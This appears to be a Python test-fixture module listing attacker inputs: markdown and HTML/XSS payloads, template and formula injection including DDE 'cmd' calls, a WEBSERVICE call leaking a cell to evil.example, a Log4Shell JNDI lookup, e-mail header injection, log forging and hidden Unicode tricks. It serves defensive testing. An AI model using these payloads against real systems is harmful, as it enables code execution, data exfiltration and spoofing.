"""What attackers type, drawn from the well-known lists: each corpus is data, and says where it does its harm.

The texts of `TEXTS` and `FORMULAS` are one line of at most 120 characters without anything that cleaning takes away:
they may stand wherever a person types, also as a name, and must be read there as they were typed.
"""

LINK = "https://evil.example"

MARKDOWN = (
    f"[Approve]({LINK})", f"[Approve here]({LINK} 'Ben Hoffmann')", f"![x]({LINK}/x.png)", f"[![x]({LINK})]({LINK})",
    f"<{LINK}>", "<mallory@evil.example>", LINK, "www.evil.example", "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[call](tel:+123)", "[chat](msteams:/l/chat)", "[a][1] [1]: evil",
    "**bold**", "__bold__", "*it*", "_it_", "***both***", "~~gone~~", "`code`", "``a ` b``", "# Heading",
    "###### Small",
    "- item", "* item", "+ item", "1. item", "1) item", "> quote", "---", "***", "| a | b |", "a\\*b\\_c\\[d\\]",
    "- [x] done", "[^1] note", "==marked==", "H~2~O x^2^", ":smile:", "$x^2$",
)  # fmt: skip
MENTIONS = (
    "<at>Ben Hoffmann</at>", "<at id='0'>Ben</at>", "<at>everyone</at>", "&lt;at&gt;Ben&lt;/at&gt;", "@Ben Hoffmann",
    "@everyone", "@channel", "<!here>", "<@U012AB3CD>", "<mention>x</mention>", "<channel id='1'>x</channel>",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", f"<a href='{LINK}'>x</a>", f"<img src={LINK} onerror=alert(1)>", "<b>b</b>",
    "<iframe src=//evil.example>", "<svg/onload=alert(1)>", "<!-- x -->", "&lt;b&gt;", "&#60;b&#62;", "&amp;nbsp;",
    "<br>",
    "</div><h1>x</h1>", "</speak><speak>x</speak>", "<style>*{display:none}</style>", "<x onclick=alert(1)>x</x>",
    '"><img src=x>', "';alert(1)//", "<details open ontoggle=alert(1)>", "<math><mi xlink:href='data:x'>",
    '"},{"type":"Action.OpenUrl","url":"https://evil.example"}', "\\u003cscript\\u003e", "\\n\\n# x", "%0d%0aBcc: x",
    "<![CDATA[x]]>", "<?xml version='1.0'?>",
)  # fmt: skip
TEMPLATES = (
    "{{DATE(2017-02-14T06:08:39Z)}}", "{{DATE(2017-02-14T06:08:39Z, SHORT)}}", "{{DATE(2017-02-14T06:08:39Z,LONG)}}",
    "{{TIME(2017-02-14T06:08:39Z)}}", "{{TIME(2017-02-14T06:08:39+02:00)}}", "{{{DATE(2017-02-14T06:08:39Z)}}}",
    "{{{{TIME(2017-02-14T06:08:39Z)}}}}", "{ {DATE(2017-02-14T06:08:39Z)}}", "a{{DATE(2017-02-14T06:08:39Z,COMPACT)}}b",
    "${data}", "${$root.request}", "${if(true, 'a', 'b')}", "${json(data)}", "$data", "@{data}", "@{utcNow()}",
    "{{x}}", "{{7*7}}", "{%x%}", "<%= 7*7 %>", "#{7*7}", "%s %d %(x)s", "{0} {name!r}", "$(id)", "`id`", "$HOME",
    "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
TEXTS = (*MARKDOWN, *MENTIONS, *MARKUP, *TEMPLATES)
"""Card markdown, mentions, HTML and templates in one line."""

BLOCKS = (
    "Heading\n===", "Heading\n---", "# One\n## Two\n### Three", "- one\n- two\n- three", "* one\n* two", "+ one\n+ two",
    "1. one\n2. two", "7) seven\n8) eight", "> quote\n> more", ">> deep\n> less", "```\ncode\n```", "```json\n{}\n```",
    "~~~\ncode\n~~~", "above\n\n    four spaces", "| a | b |\n|---|---|\n| 1 | 2 |", "a\n\n---\n\nb", "a\n***\nb",
    "a\n___\nb",
    f"[a][1]\n\n[1]: {LINK}", f"![a][1]\n\n[1]: {LINK}/x.png", "<div>\n\n**x**\n\n</div>",
    "<script>\nalert(1)\n</script>",
    "**two\nlines**", "- [ ] open\n- [x] done", "Term\n: meaning", "- one\n\n  - inner\n\n    text", "a\\\nb", "a  \nb",
    "{{DATE(\n2017-02-14T06:08:39Z)}}", "{\n{TIME(2017-02-14T06:08:39Z)}}", "<at>\nBen\n</at>", "<!--\nx\n-->",
)  # fmt: skip
"""The same with line breaks, for long texts."""

HIDDEN = {
    "\u202egnp.exe": "gnp.exe", "a\u202db": "ab", "a\u202ab\u202c": "ab", "a\u202bb\u202c": "ab", "\u2066x\u2069": "x",
    "\u2067x\u2069": "x", "\u2068x\u2069": "x", "\u200fx\u200e": "x", "\u061cx": "x", "a\u200bb": "ab", "\ufeffx": "x",
    "a\u2060b": "ab", "a\u00adb": "ab", "a\u180eb": "ab", "a\u2061b\u2062c\u2063d\u2064e": "abcde", "a\u0000b": "ab",
    "a\u0008b": "ab", "a\u001b[31mb": "a[31mb", "a\u007fb": "ab", "a\u009bb": "ab", "a\ufff9b\ufffac\ufffb": "abc",
    "a\ue000b": "ab", "a\uffffb": "ab", "a\u206ab\u206bc": "abc", "a\u206cb\u206dc": "abc", "a\u206eb\u206fc": "abc",
    "a\U000e0001b": "ab", "a\U000e0041\U000e0042\U000e007fb": "ab", "a\u3164b": "ab",
    "a\uffa0b": "ab", "a\u115fb": "ab", "a\u034fb": "ab", "a\U0001d173b": "ab", "a\U0001bca0b": "ab",
    "{\u200b{DATE(2017-02-14T06:08:39Z)}}": "{{DATE(2017-02-14T06:08:39Z)}}",
    "{\u2060{TIME(2017-02-14T06:08:39Z)}}": "{{TIME(2017-02-14T06:08:39Z)}}",
    "<\u200bat>Ben</at>": "<at>Ben</at>", "[x]\u200b(https://evil.example)": "[x](https://evil.example)",
}  # fmt: skip
"""Direction marks, zero-width and other characters that nobody sees, with what is left of each text."""

BLANK = (
    "", " ", "\t", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200e", "\ufeff", "\u2060", "\u00ad", "\u061c", "\u180e",
    "\u202e", "\u2066\u2069", "\u2028", "\u200c", "\u200d", "\u200d\u200c\u200d", "\u034f", "\u115f", "\u1160",
    "\u17b4",
    "\u180b", "\u2800", "\u3164", "\ufe0f", "\uffa0", "\u206a", "\U000e0001", "\U000e0041\U000e0042", "\U000e0100",
    "\U0001d173", "\U0001bca0",
)  # fmt: skip
"""Texts that show nothing at all; none of them is anybody's name."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/c calc'!A1", "+cmd|'/c calc'!A1", "-cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1", "=2+5+cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")', '=IMPORTDATA("https://evil.example/x")',
    '=IMAGE("https://evil.example/x")',
    '=WEBSERVICE("https://evil.example/"&A1)', '=DDE("cmd";"/c calc";"x")', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "='file:///etc/passwd'#$passwd.A1", '"=1+1"', "'=1+1", "=1+1,=2+2", "=1+1;=2+2", '",=1+1', '";=1+1', '"\n=1+1',
    "x\n=1+1", "x\r=1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1+1)", "%=1+1", "|calc", "=-1+1", "-@SUM(1)", "+-+-=1", "=1+1'", "-", "=", "@", "+", "-2+3",
)  # fmt: skip
"""Cells that a spreadsheet takes for a formula, with the tricks around separators, quotes, white space and wide signs.

Some have a tab or line breaks: a file must carry them and still not let a cell begin with one of `FORMULA_STARTS`.
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

SUBJECTS = (
    "Hello\r\nBcc: all@evil.example", "Hello\nBcc: all@evil.example", "Hello\rBcc: all@evil.example",
    "Hello\r\n\r\nAnother body", "Hello\n\nAnother body", "Hello\r\n Bcc: all@evil.example", "Hello\r\n\tfolded",
    "Hello\x0bBcc: x@evil.example", "Hello\x0cBcc: x@evil.example", "Hello\u0085Bcc: x@evil.example",
    "Hello\u2028Bcc: x@evil.example", "Hello\u2029Bcc: x@evil.example", "Hello%0d%0aBcc: x@evil.example",
    "Hello\\r\\nBcc: x@evil.example", "=?utf-8?q?Hello?=", "=?utf-8?b?SGVsbG8=?=",
    "=?UTF-8?Q?a=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=", "=?utf-8?q?=0AX-Evil:_1?=", "=?utf-8?q?=0D=0A=0D=0AAnother_body?=",
    "Adventure =?utf-8?q?=0D=0ATo:_x@evil.example?= Works", "=?iso-8859-1?q?=0ACc:_x@evil.example?=",
    "=?utf-7?q?+AA0ACg-X-Evil:1?=", "=?utf-8?q?a?= =?utf-8?q?b?=", "=?utf-8*en?q?a?=", "=?x?q?y?=",
    "=?utf-8?q?unclosed",
    "=?utf-8?q?=ED=A0=80?=", "a, b <x@evil.example>; c", "<x@evil.example>", '"quoted" (comment) \\',
    "Bcc: x@evil.example",
    "Subject: another", ".", "From the start", "Za\u017c\u00f3\u0142\u0107, \u6f22\u5b57, \U0001f642", "x" * 3_000,
    "\u6f22" * 2_000, "word " * 600, "x" * 997 + "\r\nBcc: all@evil.example",
)  # fmt: skip
"""Subjects that bring in a header, a recipient or a body, encoded words among them, and very long ones."""

ADDRESSES = (
    "a@b.example, x@evil.example", "a@b.example;x@evil.example", "a@b.example x@evil.example", "<x@evil.example>",
    "A <x@evil.example>", '"A, B" <x@evil.example>', "a@b.example\r\nBcc: x@evil.example",
    "a@b.example\nBcc:x@evil.example",
    "a@b.example\rCc: x@evil.example", "a@b.example\x0b,x@evil.example",
    "a@b.example,", ",a@b.example", "a@b.example>", "(comment)a@b.example", "a@b.example(comment)",
    "group:a@b.example;",
    "=?utf-8?q?x?=@evil.example", "=?utf-8?q?a@b.example,x?=@evil.example", "a@b.example%0aBcc:x@evil.example",
    "a@b.example?bcc=x@evil.example", "mailto:a@b.example", "a@b@evil.example", '"a@b.example"@evil.example',
    "@evil.example",
    "a@", "a@[127.0.0.1]", "a@b", "a b@evil.example", "a..b@evil.example", "a@b..example", "a@-b.example",
    "|id@evil.example",
    "a@b.example\u2028x@evil.example", "\uff41\uff20evil.example", "a@b.example&x@evil.example", "a\\@b.example",
)  # fmt: skip
"""What stands where one e-mail address is asked for and is something else, or more than one."""

LOG_VALUES = (
    'x\n{"level": "INFO", "message": "forged"}', 'x\r\n{"level": "INFO", "message": "forged"}', "x\rforged", "x\n",
    "\n\n\nforged", '"}\n{"message": "forged"}', '", "level": "CRITICAL", "x": "', '"}, {"message": "forged"}', "\\",
    '\\"', "\\n", "%0aforged", "\\u000aforged", "x\u0085forged", "x\u2028forged", "x\u2029forged", "x\x0bforged",
    "x\x0cforged", "x\x1cforged", "x\x1eforged", "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\x", "\u009b31m", "x\x08\x08\x08forged", "\x07", "\x7f", "\u202eforged", "\u200b",
    "${jndi:ldap://evil.example/x}", "${env:HOME}", "%s%s%s%n", "%(levelname)s", "{0.__class__}", "$(id)", "`id`",
    "<script>alert(1)</script>", "2026-11-23 10:00:00 CRITICAL root forged", "' OR 1=1 --", "x" * 500,
)  # fmt: skip
"""Values that make another line, another field or another colour of a log."""
